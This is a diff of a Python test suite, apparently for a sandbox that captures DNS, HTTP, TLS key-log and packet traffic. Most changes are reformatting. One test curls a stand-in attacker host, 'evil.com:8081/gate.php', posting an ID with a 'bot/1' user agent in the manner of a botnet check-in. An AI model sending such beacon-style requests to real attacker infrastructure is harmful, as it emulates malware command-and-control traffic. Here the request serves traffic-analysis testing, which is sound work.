@@ -268,9 +268,7 @@ class TestNameService:
 
         with world.run() as account:
             first = world.inside(lambda: resolve("a.com", server="8.8.8.8"))
-            six = world.inside(
-                lambda: resolve("a.com", "AAAA", server="2001:4860:4860::8888", family=socket.AF_INET6)
-            )
+            six = world.inside(lambda: resolve("a.com", "AAAA", server="2001:4860:4860::8888", family=socket.AF_INET6))
             assert socket.inet_aton(first[0]) in world.inside(by_tcp)
         assert ":" in six[0]
         asked = account.of(messages.Dns)
@@ -293,7 +291,9 @@ class TestNameService:
 class TestWeb:
     def test_plain(self, world: World) -> None:
         with world.run() as account:
-            body = world.curl("--connect-to", "::5.6.7.8:8081", "-A", "bot/1", "-d", "id=7", "http://evil.com:8081/gate.php")
+            body = world.curl(
+                "--connect-to", "::5.6.7.8:8081", "-A", "bot/1", "-d", "id=7", "http://evil.com:8081/gate.php"
+            )
         assert body == b"OK"
         seen = account.one(messages.Http)
         assert (seen.method, seen.url) == ("POST", "http://evil.com:8081/gate.php")
@@ -315,7 +315,10 @@ class TestWeb:
         with world.run() as account:
             world.curl("https://[2001:db8::77]/x.json")
             world.curl("https://9.8.7.6/x.json")
-        assert [seen.url for seen in account.of(messages.Http)] == ["https://[2001:db8::77]/x.json", "https://9.8.7.6/x.json"]
+        assert [seen.url for seen in account.of(messages.Http)] == [
+            "https://[2001:db8::77]/x.json",
+            "https://9.8.7.6/x.json",
+        ]
 
     def test_old_tls_and_old_ciphers(self, world: World) -> None:
         old = ["--tls-max", "1.0", "--tlsv1.0", "--ciphers", "AES128-SHA:@SECLEVEL=0"]
@@ -612,9 +615,9 @@ class TestRecord:
             world.curl("-A", "two", "https://5.6.7.9/a.txt")
         assert [one.connection for one in second.of(messages.Http)] == [1]
         assert second.one(messages.Http).server[0] == "5.6.7.9"
-        assert not set(first.blob("tlskeys").split()) & set(second.blob("tlskeys").split()) & {
-            word for word in first.blob("tlskeys").split() if len(word) == 64
-        }
+        # A line is a label, the client's random and a secret.
+        randoms = [{line.split()[1] for line in run.blob("tlskeys").splitlines()} for run in (first, second)]
+        assert not randoms[0] & randoms[1]
         assert len(list(_packets(second.blob("pcap")))) < 60
 
     def test_more_bodies_than_the_bound(self, world: World) -> None:
